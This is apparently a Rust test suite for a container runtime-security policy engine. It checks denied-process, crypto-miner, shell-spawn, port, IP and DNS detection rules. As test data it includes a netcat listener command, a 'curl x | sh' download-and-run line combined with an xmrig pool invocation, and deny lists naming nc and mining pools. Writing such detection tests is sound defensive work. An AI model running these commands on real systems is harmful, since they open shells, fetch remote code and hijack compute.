//! Evaluation: one row per behaviour, each with the verdicts it must produce.

use defender_policy::{
    BinaryIdentity, BinaryTracker, Check, CompiledPolicy, DEFAULT_RULE_NAME, Effect, EventContext,
    MAX_MESSAGE_VALUE_CHARS, RuntimePolicy, Scope, Verdict,
};
use defender_proto::v1::{
    Direction, Event, NetworkConnection, NetworkListen, ProcessExit, ProcessStart, Protocol,
    event::Kind,
};
use serde_json::{Value, json};

const WEB: Scope<'static> = Scope {
    family: "web-api",
    container: "app",
    image: "123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.4",
    cluster: "prod",
};

/// A validated, compiled policy from a list of rules.
fn policy(rules: Value) -> CompiledPolicy {
    CompiledPolicy::from_json(&json!({ "rules": rules }).to_string()).unwrap()
}

/// A policy of one rule (applying everywhere) with the given sections.
fn rule(sections: Value) -> CompiledPolicy {
    let mut r = json!({"name": "r"});
    for (k, v) in sections.as_object().unwrap() {
        r[k] = v.clone();
    }
    policy(json!([r]))
}

fn event(kind: Kind) -> Event {
    Event {
        seq: 7,
        time_ms: 1,
        container: "app".into(),
        kind: Some(kind),
    }
}

fn exec(pid: u32, exe: &str, argv: &[&str]) -> Event {
    event(Kind::ProcessStart(ProcessStart {
        pid,
        ppid: 10,
        exe: exe.as_bytes().to_vec(),
        argv: argv.iter().map(|a| a.as_bytes().to_vec()).collect(),
        ..Default::default()
    }))
}

fn listen(port: u32, pid: u32, closed: bool) -> Event {
    event(Kind::NetworkListen(NetworkListen {
        protocol: Protocol::Tcp as i32,
        local_addr: "0.0.0.0".into(),
        local_port: port,
        pid,
        closed,
        ..Default::default()
    }))
}

fn connect(direction: Direction, addr: &str, port: u32, pid: u32, closed: bool) -> Event {
    event(Kind::NetworkConnection(NetworkConnection {
        protocol: Protocol::Tcp as i32,
        direction: direction as i32,
        local_addr: "10.0.1.5".into(),
        local_port: 40000,
        remote_addr: addr.into(),
        remote_port: port,
        pid,
        closed,
        ..Default::default()
    }))
}

fn outbound(addr: &str, port: u32, pid: u32) -> Event {
    connect(Direction::Outbound, addr, port, pid, false)
}

fn eval(p: &CompiledPolicy, e: &Event) -> Vec<Verdict> {
    p.evaluate(&WEB, e, &EventContext::default())
}

/// (check, effect, kill_pid) of each verdict.
fn summary(v: &[Verdict]) -> Vec<(Check, Effect, Option<u32>)> {
    v.iter().map(|v| (v.check, v.effect, v.kill_pid)).collect()
}

#[test]
fn denied_process_by_name_and_path_glob() {
    let prevent = rule(json!({"processes": {"effect": "prevent", "denied": ["nc", "/tmp/*"]}}));
    let v = eval(&prevent, &exec(42, "/usr/bin/nc", &["nc", "-lvp", "4444"]));
    assert_eq!(
        summary(&v),
        [(Check::DeniedProcess, Effect::Prevent, Some(42))]
    );
    assert_eq!(v[0].rule, "r");
    assert_eq!(v[0].pid, 42);
    assert_eq!(
        v[0].message,
        "process /usr/bin/nc (pid 42, \"nc -lvp 4444\") matches denied pattern \"nc\"; \
         prevented: killing pid 42 (SIGKILL)"
    );

    let v = eval(&prevent, &exec(43, "/tmp/x/payload", &["payload"]));
    assert_eq!(
        summary(&v),
        [(Check::DeniedProcess, Effect::Prevent, Some(43))]
    );
    assert!(
        v[0].message.contains("denied pattern \"/tmp/*\""),
        "{}",
        v[0].message
    );

    // A denied name given as argv[0] of another binary, and a deleted binary.
    assert_eq!(
        eval(&prevent, &exec(44, "/opt/busybox", &["nc", "-l"])).len(),
        1
    );
    assert_eq!(
        eval(&prevent, &exec(45, "/usr/bin/nc (deleted)", &["x"])).len(),
        1
    );
    // Path patterns match paths, not basenames; names match basenames, not substrings.
    assert!(eval(&prevent, &exec(46, "/usr/bin/tmp", &["tmp"])).is_empty());
    assert!(eval(&prevent, &exec(47, "/usr/bin/ncat", &["ncat"])).is_empty());

    let alert = rule(json!({"processes": {"effect": "alert", "denied": ["nc"]}}));
    assert_eq!(
        summary(&eval(&alert, &exec(42, "/usr/bin/nc", &["nc"]))),
        [(Check::DeniedProcess, Effect::Alert, None)]
    );
    let disabled = rule(json!({"processes": {"effect": "disable", "denied": ["nc"]}}));
    assert!(eval(&disabled, &exec(42, "/usr/bin/nc", &["nc"])).is_empty());
}

#[test]
fn allowed_list_violations() {
    let p =
        rule(json!({"processes": {"effect": "prevent", "allowed": ["node", "/usr/local/bin/*"]}}));
    assert!(eval(&p, &exec(5, "/usr/bin/node", &["node", "server.js"])).is_empty());
    assert!(eval(&p, &exec(5, "/usr/local/bin/helper", &["helper"])).is_empty());
    let v = eval(&p, &exec(6, "/bin/dash", &["sh", "-c", "id"]));
    assert_eq!(
        summary(&v),
        [(Check::ProcessNotAllowed, Effect::Prevent, Some(6))]
    );
    assert!(
        v[0].message.starts_with(
            "process /bin/dash (pid 6, \"sh -c id\") is not in the allowed process list"
        )
    );
    // argv[0] cannot buy a place on the allowed list.
    assert_eq!(eval(&p, &exec(7, "/tmp/evil", &["node"])).len(), 1);
    // Unknown executable: argv[0] stands in.
    assert!(eval(&p, &exec(8, "", &["node"])).is_empty());
}

#[test]
fn crypto_miners() {
    let p = rule(json!({"processes": {"crypto_miners": "prevent"}}));
    let cases: &[(&str, &[&str], &str)] = &[
        ("/tmp/xmrig", &["xmrig"], "named like the miner \"xmrig\""),
        (
            "/opt/x/XMRig-6.21.0",
            &["./XMRig-6.21.0"],
            "named like the miner \"xmrig\"",
        ),
        (
            "/usr/bin/python3",
            &[
                "kworker",
                "-o",
                "stratum+tcp://pool.example.com:80",
                "-u",
                "wallet",
            ],
            "mining pool URL (stratum+tcp://)",
        ),
        (
            "/usr/bin/app",
            &["app", "--url", "pool.supportxmr.com:3333"],
            "well-known mining pool port 3333",
        ),
        (
            "/usr/bin/app",
            &["app", "-o", "xmr.pool.example:14444"],
            "mining pool port 14444",
        ),
        (
            "/usr/bin/app",
            &["app", "--donate-level=1"],
            "--donate-level",
        ),
    ];
    for (exe, argv, why) in cases {
        let v = eval(&p, &exec(99, exe, argv));
        assert_eq!(
            summary(&v),
            [(Check::CryptoMiner, Effect::Prevent, Some(99))],
            "{exe} {argv:?}"
        );
        assert!(
            v[0].message.starts_with("crypto-miner: process "),
            "{}",
            v[0].message
        );
        assert!(v[0].message.contains(why), "{}", v[0].message);
    }
    assert!(
        eval(
            &p,
            &exec(99, "/usr/bin/gcc", &["gcc", "-o", "a.out", "x.c"])
        )
        .is_empty()
    );

    // Outbound to a pool port counts under crypto_miners; other ports do not.
    let v = eval(&p, &outbound("203.0.113.9", 3333, 77));
    assert_eq!(
        summary(&v),
        [(Check::MiningPoolConnection, Effect::Prevent, Some(77))]
    );
    assert!(v[0].message.starts_with(
        "possible crypto-miner: outbound tcp connection to 203.0.113.9:3333 (pid 77)"
    ));
    assert!(eval(&p, &outbound("203.0.113.9", 443, 77)).is_empty());
    assert!(
        eval(
            &p,
            &connect(Direction::Inbound, "203.0.113.9", 3333, 77, false)
        )
        .is_empty()
    );
}

#[test]
fn modified_binary_via_tracker() {
    let p = rule(json!({"processes": {"modified_binary": "alert"}}));
    let mut tracker = BinaryTracker::default();
    let v1 = BinaryIdentity {
        dev: 1,
        inode: 100,
        size: 4096,
        mtime_ns: 1,
        ctime_ns: 1,
        sha256: String::new(),
    };
    let v2 = BinaryIdentity {
        inode: 101,
        mtime_ns: 2,
        ctime_ns: 2,
        ..v1.clone()
    };
    let e = exec(9, "/usr/bin/app", &["app"]);
    for (identity, want) in [(&v1, 0), (&v1, 0), (&v2, 1)] {
        let changed = tracker.record(b"/usr/bin/app", identity);
        let ctx = EventContext {
            binary_changed: changed,
            parent_exe: None,
        };
        let v = p.evaluate(&WEB, &e, &ctx);
        assert_eq!(v.len(), want);
        if want == 1 {
            assert_eq!(v[0].check, Check::ModifiedBinary);
            assert_eq!(v[0].kill_pid, None);
            assert!(
                v[0].message
                    .ends_with("started from a binary modified after the container started")
            );
        }
    }
}

#[test]
fn shell_from_non_shell_parent() {
    let p = rule(json!({"processes": {"shell_from_non_shell": "alert"}}));
    let sh = exec(20, "/bin/dash", &["sh", "-c", "id"]);
    let with_parent = |parent: Option<&'static [u8]>| {
        p.evaluate(
            &WEB,
            &sh,
            &EventContext {
                binary_changed: false,
                parent_exe: parent,
            },
        )
    };
    let v = with_parent(Some(b"/usr/bin/python3.11"));
    assert_eq!(
        summary(&v),
        [(Check::ShellFromNonShell, Effect::Alert, None)]
    );
    assert_eq!(
        v[0].message,
        "shell process /bin/dash (pid 20, \"sh -c id\") started by non-shell parent /usr/bin/python3.11 (pid 10)"
    );
    assert!(with_parent(Some(b"/bin/bash")).is_empty());
    assert!(with_parent(Some(b"/sbin/tini")).is_empty());
    assert!(with_parent(None).is_empty());
    // busybox as a shell under node is reported; busybox wget is not a shell.
    let bb = exec(21, "/bin/busybox", &["sh"]);
    let ctx = EventContext {
        binary_changed: false,
        parent_exe: Some(b"/usr/local/bin/node"),
    };
    assert_eq!(p.evaluate(&WEB, &bb, &ctx).len(), 1);
    assert!(
        p.evaluate(&WEB, &exec(22, "/bin/busybox", &["wget"]), &ctx)
            .is_empty()
    );
}

#[test]
fn listening_ports() {
    let p = rule(
        json!({"network": {"effect": "prevent", "allowed_listening_ports": [8080, "9000-9100"], "denied_listening_ports": [22]}}),
    );
    let v = eval(&p, &listen(22, 31, false));
    assert_eq!(
        summary(&v),
        [(Check::DeniedListeningPort, Effect::Prevent, Some(31))]
    );
    assert_eq!(
        v[0].message,
        "tcp listening on 0.0.0.0:22 (pid 31): port 22 is denied (denied_listening_ports 22); prevented: killing pid 31 (SIGKILL)"
    );
    let v = eval(&p, &listen(8081, 32, false));
    assert_eq!(
        summary(&v),
        [(Check::ListeningPortNotAllowed, Effect::Prevent, Some(32))]
    );
    assert!(eval(&p, &listen(8080, 33, false)).is_empty());
    assert!(eval(&p, &listen(9050, 33, false)).is_empty());
    // Unknown owner: nothing to kill, and the message says so.
    let v = eval(&p, &listen(22, 0, false));
    assert_eq!(v[0].kill_pid, None);
    assert!(
        v[0].message
            .ends_with("prevent: the process is unknown, nothing is killed")
    );
    // pid 1 is never killed.
    assert_eq!(eval(&p, &listen(22, 1, false))[0].kill_pid, None);

    let only_denied =
        rule(json!({"network": {"effect": "alert", "denied_listening_ports": ["6000-6010"]}}));
    assert_eq!(
        summary(&eval(&only_denied, &listen(6005, 3, false))),
        [(Check::DeniedListeningPort, Effect::Alert, None)]
    );
    assert!(eval(&only_denied, &listen(8081, 3, false)).is_empty());
}

#[test]
fn outbound_ports_and_addresses() {
    let p = rule(json!({"network": {"effect": "prevent",
        "denied_outbound_ports": [25, "6660-6669"],
        "denied_outbound_ips": ["169.254.169.254", "10.0.0.0/8", "2001:db8::/32", "::ffff:192.168.0.0/112"]}}));
    let v = eval(&p, &outbound("198.51.100.1", 25, 50));
    assert_eq!(
        summary(&v),
        [(Check::DeniedOutboundPort, Effect::Prevent, Some(50))]
    );
    assert!(v[0].message.starts_with("outbound tcp connection to 198.51.100.1:25 (pid 50): port 25 is denied (denied_outbound_ports 25)"));
    assert_eq!(eval(&p, &outbound("198.51.100.1", 6667, 50)).len(), 1);

    let cases = [
        ("169.254.169.254", "169.254.169.254"),
        ("10.20.30.40", "10.0.0.0/8"),
        ("::ffff:10.20.30.40", "10.0.0.0/8"),
        ("2001:db8:aa::1", "2001:db8::/32"),
        ("192.168.1.1", "::ffff:192.168.0.0/112"),
    ];
    for (addr, entry) in cases {
        let v = eval(&p, &outbound(addr, 443, 51));
        assert_eq!(
            summary(&v),
            [(Check::DeniedOutboundIp, Effect::Prevent, Some(51))],
            "{addr}"
        );
        assert!(
            v[0].message
                .contains(&format!("is denied (denied_outbound_ips {entry})")),
            "{}",
            v[0].message
        );
    }
    let v = eval(&p, &outbound("2001:db8::5", 443, 51));
    assert!(
        v[0].message
            .starts_with("outbound tcp connection to [2001:db8::5]:443"),
        "{}",
        v[0].message
    );
    for addr in ["11.0.0.1", "2001:db9::1", "192.169.0.1", "not-an-ip"] {
        assert!(eval(&p, &outbound(addr, 443, 51)).is_empty(), "{addr}");
    }
    // Port and address both denied: two verdicts, same pid.
    assert_eq!(eval(&p, &outbound("10.0.0.1", 25, 52)).len(), 2);
}

#[test]
fn closed_sockets_and_other_events_never_violate() {
    let p = rule(json!({
        "processes": {"crypto_miners": "prevent"},
        "network": {"effect": "prevent", "allowed_listening_ports": [8080], "denied_listening_ports": [22],
                    "denied_outbound_ports": [25], "denied_outbound_ips": ["0.0.0.0/0", "::/0"]}}));
    assert!(eval(&p, &listen(22, 5, true)).is_empty());
    assert!(eval(&p, &listen(9999, 5, true)).is_empty());
    assert!(eval(&p, &connect(Direction::Outbound, "1.2.3.4", 25, 5, true)).is_empty());
    assert!(eval(&p, &connect(Direction::Outbound, "1.2.3.4", 3333, 5, true)).is_empty());
    assert!(eval(&p, &connect(Direction::Inbound, "1.2.3.4", 25, 5, false)).is_empty());
    let exit = event(Kind::ProcessExit(ProcessExit {
        pid: 5,
        exit_code: 0,
        signal: 0,
        status_known: true,
    }));
    assert!(eval(&p, &exit).is_empty());
    assert!(eval(&p, &Event::default()).is_empty());
}

#[test]
fn collections_scope_rules() {
    let p = policy(json!([
        {"name": "web", "collection": {"families": ["web-*"]}, "processes": {"effect": "alert", "denied": ["nc"]}}
    ]));
    let nc = exec(1000, "/usr/bin/nc", &["nc"]);
    assert_eq!(eval(&p, &nc).len(), 1);
    let batch = Scope {
        family: "batch",
        ..WEB
    };
    assert!(p.evaluate(&batch, &nc, &EventContext::default()).is_empty());
    assert_eq!(p.matching_rule(&WEB), Some("web"));
    assert_eq!(p.matching_rule(&batch), None);

    // Every non-empty list must match; entries within a list are alternatives.
    let p = policy(json!([
        {"name": "narrow", "collection": {"families": ["web-*"], "images": ["*/web:*", "*/api:*"], "clusters": ["staging"]}},
        {"name": "images", "collection": {"images": ["*/api:*", "*/web:*"]}},
    ]));
    assert_eq!(p.matching_rule(&WEB), Some("images"));
    let staging = Scope {
        cluster: "staging",
        ..WEB
    };
    assert_eq!(p.matching_rule(&staging), Some("narrow"));
}

#[test]
fn first_matching_rule_wins() {
    let p = policy(json!([
        {"name": "exempt web", "collection": {"families": ["web-*"]}},
        {"name": "everyone", "processes": {"effect": "prevent", "denied": ["nc"]}},
    ]));
    let nc = exec(1000, "/usr/bin/nc", &["nc"]);
    // The first rule (all disabled) decides for web-api, so nothing fires.
    assert!(eval(&p, &nc).is_empty());
    let other = Scope {
        family: "batch",
        ..WEB
    };
    let v = p.evaluate(&other, &nc, &EventContext::default());
    assert_eq!(v.len(), 1);
    assert_eq!(v[0].rule, "everyone");

    let p = policy(json!([
        {"name": "strict", "collection": {"containers": ["app"]}, "processes": {"effect": "prevent", "denied": ["nc"]}},
        {"name": "lenient", "processes": {"effect": "alert", "denied": ["nc"]}},
    ]));
    let v = eval(&p, &nc);
    assert_eq!(
        (v[0].rule.as_str(), v[0].effect),
        ("strict", Effect::Prevent)
    );
}

#[test]
fn default_policy_alerts_on_a_miner_and_prevents_nothing() {
    let p = RuntimePolicy::default_policy().compile();
    let ctx = EventContext {
        binary_changed: true,
        parent_exe: Some(b"/usr/bin/python3"),
    };
    let miner_shell = exec(
        1234,
        "/bin/sh",
        &["sh", "-c", "curl x | sh; ./xmrig -o stratum+tcp://p:3333"],
    );
    let v = p.evaluate(&WEB, &miner_shell, &ctx);
    assert_eq!(
        summary(&v),
        [
            (Check::CryptoMiner, Effect::Alert, None),
            (Check::ModifiedBinary, Effect::Alert, None),
            (Check::ShellFromNonShell, Effect::Alert, None),
        ]
    );
    assert!(v.iter().all(|v| v.rule == DEFAULT_RULE_NAME));
    let v = p.evaluate(
        &WEB,
        &exec(5, "/tmp/xmrig", &["xmrig"]),
        &EventContext::default(),
    );
    assert_eq!(summary(&v), [(Check::CryptoMiner, Effect::Alert, None)]);
    let v = eval(&p, &outbound("203.0.113.1", 4444, 6));
    assert_eq!(
        summary(&v),
        [(Check::MiningPoolConnection, Effect::Alert, None)]
    );
    // Ordinary activity is quiet.
    assert!(eval(&p, &exec(7, "/usr/bin/node", &["node", "server.js"])).is_empty());
    assert!(eval(&p, &listen(8080, 7, false)).is_empty());
    assert!(eval(&p, &outbound("203.0.113.1", 443, 7)).is_empty());
}

#[test]
fn messages_are_bounded_and_printable() {
    let p = rule(json!({"processes": {"effect": "alert", "denied": ["evil"]}}));
    let long_arg = "A".repeat(10_000);
    let exe = format!("/tmp/{}/evil", "d".repeat(5000));
    let v = eval(&p, &exec(3, &exe, &["evil\n\u{1b}[31m", &long_arg]));
    let m = &v[0].message;
    assert!(
        m.len() < 3 * MAX_MESSAGE_VALUE_CHARS + 200,
        "{} bytes",
        m.len()
    );
    assert!(!m.chars().any(char::is_control), "{m:?}");
    assert!(m.contains("evil\\n\\u{1b}[31m"), "{m}");
    assert!(m.contains('…'));
}

#[test]
fn verdict_becomes_a_runtime_audit() {
    let p = rule(json!({"processes": {"effect": "prevent", "denied": ["nc"]}}));
    let v = eval(&p, &exec(42, "/usr/bin/nc", &["nc"]));
    let audit = v[0].to_audit(7);
    assert_eq!(audit.rule, "r");
    assert_eq!(audit.effect, defender_proto::v1::Effect::Prevent as i32);
    assert_eq!(audit.subject_seq, 7);
    assert_eq!(audit.pid, 42);
    assert_eq!(audit.message, v[0].message);
    assert_eq!(Check::DeniedProcess.setting(), "processes.denied");
}

fn dns(name: &str, pid: u32) -> Event {
    event(Kind::DnsQuery(defender_proto::v1::DnsQuery {
        pid,
        name: name.into(),
        qtype: 1,
        server_addr: "127.0.0.11".into(),
        server_port: 53,
        blocked: false,
    }))
}

#[test]
fn dns_denied_and_allowed_domains() {
    let p =
        rule(json!({"dns": {"effect": "prevent", "denied": ["*.XMR.example", "pastebin.com"]}}));
    // Case-insensitive, trailing dot ignored; `*.` matches below the domain, not the domain.
    for (name, hit) in [
        ("pool.xmr.example", true),
        ("a.b.xmr.example.", true),
        ("xmr.example", false),
        ("PASTEBIN.com", true),
        ("pastebin.com.evil", false),
        ("example.org", false),
    ] {
        let v = eval(&p, &dns(name, 42));
        assert_eq!(v.len(), usize::from(hit), "{name}: {v:?}");
        if hit {
            assert_eq!(v[0].check, Check::DeniedDomain);
            assert_eq!(v[0].effect, Effect::Prevent);
            // A query is refused, never a process killed.
            assert_eq!(v[0].kill_pid, None, "{name}");
            assert!(
                v[0].message
                    .contains(&name.trim_end_matches('.').to_lowercase())
            );
        }
    }
    let allow = rule(json!({"dns": {"effect": "alert", "allowed": ["*.amazonaws.com"]}}));
    assert!(eval(&allow, &dns("sqs.eu-west-1.amazonaws.com", 1)).is_empty());
    let v = eval(&allow, &dns("evil.example", 1));
    assert_eq!(
        summary(&v),
        vec![(Check::DomainNotAllowed, Effect::Alert, None)]
    );
    let off = rule(json!({"dns": {"denied": ["*"]}}));
    assert!(
        eval(&off, &dns("anything.example", 1)).is_empty(),
        "effect disable"
    );
}

#[test]
fn dns_lists_are_validated() {
    let both = RuntimePolicy::parse(
        r#"{"rules": [{"name": "r", "dns": {"effect": "alert", "allowed": ["a.example"], "denied": ["A.example"]}}]}"#,
    )
    .unwrap()
    .validate()
    .unwrap_err();
    assert_eq!(both[0].path, "rules[0].dns.denied[0]");
    let unknown = RuntimePolicy::parse(r#"{"rules": [{"name": "r", "dns": {"deny": []}}]}"#);
    assert!(unknown.is_err(), "unknown keys are refused");
}
